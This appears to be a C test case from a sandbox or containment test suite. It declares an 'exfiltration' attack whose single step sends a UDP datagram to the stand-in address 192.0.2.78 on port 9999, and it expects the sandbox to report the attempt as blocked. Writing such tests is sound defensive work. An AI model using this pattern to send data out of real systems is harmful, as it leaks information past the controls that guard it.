/* A datagram to an address. */
#include "../attack.h"

#include "dial.h"

ATTACK(NETWORK, "attempts", .gain = "what was found, sent away without a connection",
       .source = "exfiltration", .event = "network.blocked", .with = "address=192.0.2.78",
       .works = SOME_KERNELS, .needs = "a network", .flags = LONELY | QUIET)
{
	return attempt_datagram("192.0.2.78", 9999);
}
